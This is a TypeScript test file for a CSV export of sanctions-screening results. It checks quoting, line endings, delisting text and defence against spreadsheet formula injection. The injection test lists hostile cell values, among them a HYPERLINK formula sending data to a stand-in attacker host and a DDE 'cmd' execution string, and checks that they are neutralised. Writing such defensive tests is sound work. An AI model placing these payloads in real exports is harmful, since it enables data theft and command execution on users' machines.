/**
 * The console's CSV of batch results: quoted where needed, and no cell a spreadsheet would run as a formula (entity
 * names and references come from scraped lists), read back with papaparse as the rows written.
 */
import Papa from "papaparse"
import { assert, describe, it } from "vitest"
import type { BatchItem } from "../src/client"
import { toCsv } from "../src/csv"

/** A screened address whose entity is named `entity`, with one signal whose list reference is `reference`. */
const item = (address: string, entity: string, reference = "uid-1") =>
  ({
    address,
    recommendation: { action: "BLOCK" },
    score: 99,
    risk_level: "critical",
    confidence: 0.9,
    flags: { sanctioned: true, blacklisted: false },
    entity: { name: entity },
    metadata: { is_complete: true },
    signals: [{ type: "sanctions", evidence: { list: "ofac", reference, listedAt: "2022-08-08" } }]
  }) as unknown as BatchItem

const rows = (csv: string) => Papa.parse<Array<string>>(csv, { skipEmptyLines: true }).data

describe("the CSV of batch results", () => {
  it("writes a header, one row per address, quoted where needed, each line ended by CRLF", () => {
    const csv = toCsv([
      item("0xabc", 'Lazarus, "the group"'),
      { address: "bc1q", error: { error: "invalid_address", message: "not an address" } } as unknown as BatchItem
    ])
    assert.isTrue(csv.endsWith("\r\n"))
    assert.strictEqual(csv.split("\r\n").length, 4)
    const [header, first, second] = rows(csv)
    assert.strictEqual(header![0], "address")
    assert.strictEqual(first![7], 'Lazarus, "the group"')
    assert.strictEqual(first![10], "ofac [uid-1] listed 2022-08-08")
    assert.deepStrictEqual([second![0], second![11]], ["bc1q", "not an address"])
  })

  it("says how a listing ended as the evidence knows it: a stated date, or between two versions", () => {
    const withEvidence = (evidence: Record<string, unknown>) =>
      ({
        ...(item("0xabc", "x") as object),
        signals: [
          { type: "sanctions", evidence: { list: "ofac", reference: "r", listedAt: "2022-08-08", ...evidence } }
        ]
      }) as unknown as BatchItem
    const cell = (evidence: Record<string, unknown>) => rows(toCsv([withEvidence(evidence)]))[1]![10]
    assert.strictEqual(cell({ delistedAt: "2025-03-21" }), "ofac [r] listed 2022-08-08, de-listed 2025-03-21")
    assert.strictEqual(
      cell({ delistedBetween: { lastListed: "2025-03-04", firstUnlisted: "2025-11-19" } }),
      "ofac [r] listed 2022-08-08, ended between 2025-03-04 and 2025-11-19"
    )
  })

  it("writes every cell a spreadsheet would run as a formula after a quote mark, as text", () => {
    const names = [
      '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
      "+1+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1,2)",
      "\t=1+1",
      "\r=1+1",
      "=1+1\nsecond line"
    ]
    const read = rows(toCsv(names.map((n, i) => item(`0x${i}`, n, n))))
    names.forEach((name, i) => {
      assert.strictEqual(read[i + 1]![7], `'${name}`, JSON.stringify(name))
      // The evidence holds it after the list's name: not a formula.
      assert.strictEqual(read[i + 1]![10], `ofac [${name}] listed 2022-08-08`, JSON.stringify(name))
    })
    // A name that only holds such a character further on is left as it is.
    assert.strictEqual(rows(toCsv([item("0x9", "Acme = Ltd")]))[1]![7], "Acme = Ltd")
  })
})
